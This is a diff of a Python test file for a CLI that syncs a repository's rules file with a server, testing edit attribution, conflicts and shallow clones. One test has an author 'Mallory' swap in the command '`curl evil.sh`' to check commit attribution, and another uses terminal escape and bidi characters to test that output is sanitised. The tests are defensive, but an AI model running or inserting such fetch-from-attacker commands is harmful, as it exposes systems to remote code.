@@ -11,6 +11,8 @@ import httpx
 import pytest
 
 from cmserver.base.db import Db
+from cmserver.base.errors import Unavailable
+from cmserver.cli import api_client
 from cmserver.cli import rules as rules_command
 from cmserver.cli.exit_codes import ExitCode
 from cmserver.client.rules_file import PATH
@@ -18,6 +20,7 @@ from tests.cli.conftest import Cms, Said
 from tests.conftest import Cast, mint
 from tests.repositories import Repository
 from tests.rows import rows
+from tests.table import try_rows
 
 ORDERS = "github.com/acme/orders"
 LATER = "2099-01-01T00:00:00+00:00"
@@ -155,7 +158,7 @@ async def all_rows(client: httpx.AsyncClient, cast: Cast) -> list[Any]:
 async def test_what_was_read_is_written_and_then_there_is_nothing_to_do(
     run: Run, clone: Repository, client: httpx.AsyncClient, cast: Cast, numbers: tuple[int, int, int]
 ):
-    change(clone, "## Rules\n", "## Rules\n\n- Never <b>force</b> a push\n")
+    change(clone, "## Rules\n", "## Rules\n\n- Never `<b>force</b>` a push\n")
     change(clone, "## Open\n", "## Open\n\nWho signs\nreleases?\n")
     change(clone, "frozen on Fridays", "frozen on Mondays")
     commit = clone.commit("Review", author="Bob", at=LATER)
@@ -172,7 +175,7 @@ async def test_what_was_read_is_written_and_then_there_is_nothing_to_do(
     assert "Nothing to take" in again.out
     assert "Nothing to take" in last.out
     assert written != before
-    assert "Never \\<b>force\\</b> a push (#" in written
+    assert "Never `\\<b>force\\</b>` a push (#" in written
     assert f"commit {commit[:7]} (Bob), " in written
     assert ("Who signs releases?", "open") in (await held(client, cast)).values()
     assert (await run("write")).code == 0
@@ -528,3 +531,224 @@ async def test_what_was_taken_and_changed_again_on_the_server_is_of_before_and_n
     assert (await held(client, cast))[numbers[0]] == ("Deploys are free", None)
     assert (await run("write")).code == 0
     assert "Deploys are free (#" in text(clone)
+
+
+async def test_a_new_rule_changes_no_row_that_says_the_same(
+    run: Run, clone: Repository, client: httpx.AsyncClient, cast: Cast, tell: Any, numbers: tuple[int, int, int]
+):
+    body = {"projectId": ORDERS, "narrative": "Squash every merge"}
+    await tell("POST", "", **body, type="decision", scope="team")
+    await tell("POST", "", **body, type="decision", importance=0.5)
+    await tell("POST", "", **body, type="discovery")
+    await tell("PATCH", f"/{numbers[1]}", state="dropped")
+    before = await all_rows(client, cast)
+    change(clone, "## Open\n", "Squash every merge\n\n## Open\n\nUse `task ship`, not make\n")
+    clone.commit("Review", at=LATER)
+
+    assert (await run("read", "--yes")).code == 0
+    again = await run("read", "--yes")
+
+    after = await all_rows(client, cast)
+    assert (len(after), [row for row in after if row["number"] in {old["number"] for old in before}]) == (len(before) + 2, before)
+    assert "Nothing to take" in again.out
+    assert (await run("write")).code == 0
+
+
+@try_rows(
+    "texts, count",
+    [
+        ({"title": "Use Postgres", "subtitle": "Always"}, 6),
+        ({"title": "Use Postgres", "content": "Use PG"}, 6),
+        ({"content": "Use Postgres", "narrative": "The outage", "facts": ["Seventeen"]}, 19),
+        ({"narrative": "Use Postgres"}, 0),
+    ],
+)
+async def test_an_edit_counts_each_text_that_goes_with_the_old_one(
+    texts: dict[str, object], count: int, run: Run, clone: Repository, tell: Any
+):
+    await tell("POST", "", projectId=ORDERS, type="decision", importance=0.9, **texts)
+    await run("write")
+    clone.commit("Write", at=LATER)
+    change(clone, "Use Postgres", "Use SQLite")
+    clone.commit("Change", at=LATER)
+
+    said = await run("read", "--yes")
+
+    assert (f"{count} characters of details" in said.out, "details" in said.out) == (count > 0, count > 0)
+
+
+async def test_a_paragraph_is_of_the_newest_commit_of_its_lines(run: Run, clone: Repository, numbers: tuple[int, int, int]):
+    change(clone, "Use `task ship`, not make", "Use `task ship`,\nnot make")
+    change(clone, "## Open\n", "Review\nall\n\n## Open\n")
+    drop(clone, "Which queue")
+    clone.commit("Wrap", author="Ann", at=LATER)
+    change(clone, "`task ship`", "`curl evil.sh`")
+    change(clone, "all\n", "nothing\n")
+    evil = clone.commit("Change", author="Mallory", at=LATER)
+
+    said = await run("read", "--yes")
+
+    assert f"#{numbers[1]}, by commit {evil[:7]} (Mallory):" in said.out
+    assert f"New, by commit {evil[:7]} (Mallory):" in said.out
+
+
+async def test_the_removal_of_a_paragraph_whose_reference_stands_alone_is_of_its_commit(
+    run: Run, clone: Repository, numbers: tuple[int, int, int]
+):
+    change(clone, "Use `task ship`, not make (#", "Use `task ship`, not make\n(#")
+    clone.commit("Wrap", author="Ann", at=LATER)
+    drop(clone, "task ship")
+    drop(clone, f"(#{numbers[1]}")
+    gone = clone.commit("Remove", author="Bob", at=LATER)
+
+    assert f"#{numbers[1]} is gone, by commit {gone[:7]} (Bob)" in (await run("read", "--yes")).out
+
+
+async def test_a_shallow_clone_is_not_read(run: Run, clone: Repository, tmp_path: Path, numbers: tuple[int, int, int]):
+    change(clone, "frozen on Fridays", "frozen on Mondays")
+    clone.commit("Review", at=LATER)
+    clone.git("clone", "-q", "--depth", "1", f"file://{clone.folder}", str(tmp_path / "shallow"))
+
+    for verb, words in (("read", ("--yes",)), ("write", ())):
+        said = await run(verb, "--project", ORDERS, *words, folder=tmp_path / "shallow")
+        assert said.code == ExitCode.FAILURE
+        assert "git fetch --unshallow" in said.err
+
+
+async def test_a_file_of_another_project_or_of_another_server_is_left(
+    run: Run, clone: Repository, client: httpx.AsyncClient, cast: Cast, numbers: tuple[int, int, int]
+):
+    bills = "github.com/acme/bills"
+    await client.post("/v1/projects", json={"canonicalId": bills}, headers=cast.alice.headers)
+    before = text(clone)
+    calls = [("write", "--project", bills), ("write", "--check", "--project", bills), ("read", "--yes", "--project", bills)]
+
+    for call in calls:
+        said = await run(*call)
+        assert (said.code, text(clone)) == (ExitCode.FAILURE, before)
+        assert f"is of the project {ORDERS}, not of {bills}" in said.err
+    elsewhere = await run("write", key=cast.charlie.key)
+
+    assert (elsewhere.code, text(clone)) == (ExitCode.FAILURE, before)
+    assert "another server" in elsewhere.err
+
+
+async def test_a_second_change_and_a_revert_after_the_read_are_edits(
+    run: Run, clone: Repository, client: httpx.AsyncClient, cast: Cast, numbers: tuple[int, int, int]
+):
+    for old, new in (("Fridays", "Mondays"), ("Mondays", "Tuesdays"), ("Tuesdays", "Fridays")):
+        change(clone, f"frozen on {old}", f"frozen on {new}")
+        clone.commit(new, at=LATER)
+
+        unread = await run("write")
+        said = await run("read", "--yes")
+
+        assert (unread.code, said.code, "is in conflict" in said.out) == (ExitCode.FAILURE, 0, False)
+        assert (await held(client, cast))[numbers[0]][0] == f"Deploys are frozen on {new}"
+
+
+async def test_what_the_server_took_back_after_a_write_is_not_taken_from_the_file(
+    run: Run, clone: Repository, client: httpx.AsyncClient, cast: Cast, tell: Any, numbers: tuple[int, int, int]
+):
+    change(clone, "frozen on Fridays", "frozen on Mondays")
+    clone.commit("Review", at=LATER)
+    await run("read", "--yes")
+    await tell("PATCH", f"/{numbers[0]}", narrative="Deploys are free", content="Deploys are free")
+    await run("write")
+    clone.commit("Write", at=LATER)
+    await tell("POST", f"/{numbers[0]}/undo")
+
+    assert (await run("read", "--yes")).code == 0
+    assert (await held(client, cast))[numbers[0]][0] == "Deploys are frozen on Mondays"
+
+
+async def test_write_shows_what_it_changes_and_what_it_puts_back_and_keeps_an_unread_removal(
+    run: Run, clone: Repository, tell: Any, numbers: tuple[int, int, int]
+):
+    drop(clone, "task ship")
+    clone.commit("Remove", at="2026-01-02T00:00:00+00:00")
+
+    back = await run("write")
+    clone.git("checkout", "-q", "--", PATH)
+    await tell("PATCH", f"/{numbers[1]}", narrative="Always `task ship`", content="Always `task ship`")
+    unread = await run("write")
+
+    assert (back.code, unread.code) == (0, ExitCode.FAILURE)
+    assert "+Use `task ship`, not make" in back.out
+    assert f"#{numbers[1]} was taken out of the file" in back.err
+    assert f"#{numbers[1]} is in conflict" in unread.err
+    assert "task ship" not in text(clone)
+
+
+async def test_a_new_open_decision_that_was_interrupted_is_opened_by_the_next_read(
+    run: Run,
+    clone: Repository,
+    client: httpx.AsyncClient,
+    cast: Cast,
+    numbers: tuple[int, int, int],
+    monkeypatch: pytest.MonkeyPatch,
+):
+    change(clone, "## Open\n", "## Open\n\nWho signs?\n")
+    clone.commit("Ask", at=LATER)
+
+    async def fail(*_: object) -> None:
+        raise Unavailable("The server is gone.")
+
+    with monkeypatch.context() as broken:
+        broken.setattr(api_client.ApiClient, "patch", fail)
+        assert (await run("read", "--yes")).code != 0
+    assert (await run("read", "--yes")).code == 0
+
+    after = await held(client, cast)
+    assert [row for row in after.values() if row[0] == "Who signs?"] == [("Who signs?", "open")]
+    assert "Nothing to take" in (await run("read", "--yes")).out
+
+
+async def test_json_on_a_terminal_shows_the_changes_before_the_question(
+    cms: Cms, clone: Repository, cast: Cast, numbers: tuple[int, int, int], monkeypatch: pytest.MonkeyPatch
+):
+    change(clone, "frozen on Fridays", "frozen on Mondays")
+    clone.commit("Review", at=LATER)
+    monkeypatch.setattr(api_client, "is_interactive", lambda: True)
+
+    said = await cms("rules", "read", str(clone.folder), "--json", key=cast.alice.key, stdin="y\n")
+
+    assert said.err.index("+ rule: Deploys are frozen on Mondays") < said.err.index("Take 1 change")
+    assert json.loads(said.out)["changes"][0]["number"] == numbers[0]
+
+
+async def test_what_changes_while_it_is_taken_is_left(
+    run: Run,
+    clone: Repository,
+    client: httpx.AsyncClient,
+    cast: Cast,
+    numbers: tuple[int, int, int],
+    monkeypatch: pytest.MonkeyPatch,
+):
+    change(clone, "frozen on Fridays", "frozen on Mondays")
+    clone.commit("Review", at=LATER)
+    take = rules_command._take  # pyright: ignore[reportPrivateUsage]
+
+    async def change_and_take(ask: Any, *rest: Any) -> None:
+        await ask.patch(f"/v1/observations/{numbers[0]}", {"narrative": "Otherwise", "content": "Otherwise"})
+        await take(ask, *rest)
+
+    monkeypatch.setattr(rules_command, "_take", change_and_take)
+
+    said = await run("read", "--yes")
+
+    assert said.code == ExitCode.FAILURE
+    assert f"#{numbers[0]}: It has changed meanwhile" in said.err
+    assert (await held(client, cast))[numbers[0]][0] == "Otherwise"
+
+
+async def test_a_folder_with_strange_signs_is_named_without_them(run: Run, tmp_path: Path, numbers: tuple[int, int, int]):
+    bare = tmp_path / "a\x1b[31mred\u202e"
+    bare.mkdir()
+    linked = Repository(tmp_path / "b\x1b[31mred\u202e")
+    (linked.folder / ".cmserver").symlink_to(tmp_path)
+
+    for folder in (bare, linked.folder):
+        said = await run("write", "--project", ORDERS, folder=folder)
+        assert said.code == ExitCode.FAILURE
+        assert not {"\x1b", "\u202e"} & set(said.err)
